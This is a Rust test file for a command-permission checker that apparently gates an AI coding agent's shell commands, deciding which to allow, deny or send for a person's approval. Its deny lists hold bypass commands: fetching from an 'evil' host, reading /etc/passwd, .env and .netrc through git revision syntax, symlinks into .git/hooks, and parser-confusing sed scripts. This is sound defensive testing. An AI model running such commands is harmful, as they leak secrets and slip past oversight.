//! What attackers found, and what was refused without need: each stays as it is now.

use mab_exec::{Decision, Mode, Wanted, Workspace};

use super::{JUDGE, decided, denied};

#[test]
fn words_that_a_program_reads_differently_than_they_look_are_denied() {
    denied(&[
        "xxd -ac 5 in",
        "xxd -bc 5 in",
        "xxd -pl 5 in",
        "tree -Po x out",
        "npm install -wsg x",
        "npm install -wDg x",
        "npm install -wsC /x y",
        "git diff -G --no-index a /etc/passwd",
        "git diff -S --no-index a b",
        "git log --author --no-index",
        "pip install -r https://evil/x",
        "pip install -c file:///etc/passwd x",
        "npm install x@..",
        "npm install x@.",
        "yarn add x@../y",
    ]);
}

#[test]
fn repositories_within_a_repository_are_never_looked_into() {
    denied(&[
        "git diff --submodule=diff",
        "git log -p --submodule=diff",
        "git diff --submodule",
        "git status --ignore-submodules=none",
        "git diff --ignore-submodules=none",
        "git log --format=%-G?",
        "git log --format='% GK'",
        "git log --format=%+GS",
    ]);
}

#[test]
fn secrets_named_through_revisions_are_denied() {
    denied(&[
        "git show :0:.netrc",
        "git show :.env",
        "git show 'HEAD@{10:00}:.env.local'",
        "git show 'HEAD^{/1}:.env.local'",
        "git show 'HEAD^{/a:b}:./.env'",
        "git log -L1,5:.env",
        "git log -L 1,5:.env",
        "git log -L :main:.env",
        "git log -L1,5:../x",
        "git diff ':(top).env'",
        "git show :/.env",
    ]);
}

#[test]
fn what_never_ends_or_prints_without_measure_is_denied() {
    denied(&[
        "sed 'G;D' f",
        "shuf -re a",
        "jq -n 'repeat(1)'",
        "jq -n '[range(infinite)]'",
        "jq -n '0|while(true;.+1)'",
        "jq -n '0|recurse(.+1)'",
        "seq 999999999999999999",
        "printf %999999999d 1",
        "date +%999999999d",
        "sleep 3600",
        "sleep infinity",
    ]);
}

#[test]
fn scripts_of_sed_that_another_sed_reads_differently_are_denied() {
    denied(&[
        "sed 's/[]/]/;/w x/p' f",
        "sed 's/[[:space:]/]/;/w x/p' f",
        r"sed 's/[\]/]/;/w x/p' f",
        "sed 's/[/]/w x/' f",
        "sed 's/[//w x]/C/' f",
        "sed '/[/w x]/p' f",
    ]);
}

#[test]
fn copies_over_the_workspace_itself_are_denied() {
    denied(&["cp -rT evil .", "cp -r evil/. .", "cp -r evil/./ sub", "cp -r . x", "mv -T evil ."]);
}

#[test]
fn commands_that_only_read_are_allowed() {
    for command in [
        "sed -n '/x/{p;q}' f",
        "sed 's/[^/]*$//' f",
        "jq -r .env package.json",
        "tar -tf a.tar",
        "unzip -l a.zip",
        "zcat a.gz",
        "gzip -dc a.gz",
        "ls --help",
        "grep --version",
        "cargo --version",
        "python3 --version",
        "node --version",
        "lscpu",
        "locale",
        "sleep 1",
        "diff -r a b",
        "seq 1 100",
    ] {
        assert_eq!(decided(Mode::Safe, command), Decision::Allow, "{command}");
    }
    for command in [
        "git config --get user.name",
        "git show ':/fix'",
        "git show HEAD:src/main.rs",
        "git log -L1,5:src/main.rs",
        "git apply --check x.patch",
        "cargo locate-project",
        "cargo pkgid",
        "rustc -vV",
        "go env GOPATH",
    ] {
        assert_eq!(decided(Mode::Restricted, command), Decision::Allow, "{command}");
    }
}

#[test]
fn commands_that_a_person_can_weigh_wait_for_one() {
    for command in [
        "git revert --no-edit HEAD",
        "git cherry-pick main~1",
        "git merge feature/x",
        "git commit -m '- a list'",
        "cargo update --offline",
        "cargo fetch --offline",
        "tox",
        "jest src",
        "vitest run",
        "npm pack",
        "pip install -r requirements.txt",
        "cp -T a b",
        "mv a b",
    ] {
        assert_eq!(decided(Mode::Restricted, command), Decision::Ask, "{command}");
    }
}

#[test]
fn links_of_the_workspace_to_hidden_and_protected_names_are_denied() {
    let home = tempfile::tempdir().unwrap();
    let root = home.path().canonicalize().unwrap().join("space");
    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
    std::fs::create_dir(root.join("d")).unwrap();
    std::fs::write(root.join(".git/config"), "x").unwrap();
    std::fs::write(root.join("a"), "x").unwrap();
    for (to, link) in
        [(".git/config", "gitcfg"), (".git/hooks", "hk"), (".claude", "cl"), ("/etc/passwd", "out")]
    {
        std::os::unix::fs::symlink(to, root.join(link)).unwrap();
    }
    let space = Workspace::open(&root).unwrap();
    let judge =
        |command: &str| JUDGE.judge(Mode::Restricted, &Wanted::Text(command.to_owned()), Some(&space));
    for command in [
        "cat gitcfg",
        "ls hk",
        "test -f gitcfg",
        "test -f out",
        "cp a hk/post-commit",
        "mkdir hk/x",
        "cp a cl",
        "python x.py gitcfg",
        "git push d main",
        "git fetch d",
    ] {
        let verdict = judge(command);
        assert_eq!(verdict.decision, Decision::Deny, "{command}: {}", verdict.reason);
    }
    assert_eq!(judge("cat a").decision, Decision::Allow);
    assert_eq!(judge("git push origin main").decision, Decision::Ask);
    let reason = judge("mkdir -p a/b/c").reason;
    assert!(!reason.contains("outside"), "{reason}");
}

#[test]
fn repository_whose_configuration_names_programs_of_its_own_makes_reading_wait() {
    let home = tempfile::tempdir().unwrap();
    let root = home.path().canonicalize().unwrap().join("space");
    std::fs::create_dir_all(root.join(".git")).unwrap();
    let space = Workspace::open(&root).unwrap();
    let judge = |command: &str| {
        JUDGE.judge(Mode::Restricted, &Wanted::Text(command.to_owned()), Some(&space)).decision
    };
    assert_eq!(judge("git status"), Decision::Allow);
    for config in [
        "[core][FILTER \"x\"]\nclean = ./x",
        "[include]\npath = x",
        "[includeIf \"a\"]\npath = x",
        "[extensions]\nworktreeConfig = true",
        "[merge \"x\"]\ndriver = ./x",
    ] {
        std::fs::write(root.join(".git/config"), config).unwrap();
        assert_eq!(judge("git diff"), Decision::Ask, "{config}");
    }
    std::fs::write(root.join(".git/config"), "#".repeat(300_000)).unwrap();
    assert_eq!(judge("git diff"), Decision::Ask);
    std::fs::write(root.join(".git/config"), "[core]\nbare = false").unwrap();
    assert_eq!(judge("git diff"), Decision::Allow);
    std::fs::write(root.join(".git/commondir"), "x").unwrap();
    assert_eq!(judge("git diff"), Decision::Deny);
    std::fs::remove_dir_all(root.join(".git")).unwrap();
    std::fs::write(root.join(".git"), "gitdir: x").unwrap();
    assert_eq!(judge("git diff"), Decision::Deny);
    std::fs::write(root.join(".git"), "gitdir: ../x").unwrap();
    assert_eq!(judge("git diff"), Decision::Ask);
}

#[test]
fn refusals_say_in_which_mode_it_is_allowed_and_how_to_give_words() {
    let reason = super::judged(Mode::Safe, "git status").reason;
    assert!(reason.ends_with("not allowed in mode safe; mode restricted allows it"), "{reason}");
    let reason = super::judged(Mode::Safe, "find . -name x -delete").reason;
    assert!(reason.contains("option -delete: it deletes files"), "{reason}");
    let words = Wanted::Argv(vec![vec!["git status".to_owned()]]);
    let reason = JUDGE.judge(Mode::Restricted, &words, None).reason;
    assert!(reason.contains("several words in one"), "{reason}");
}
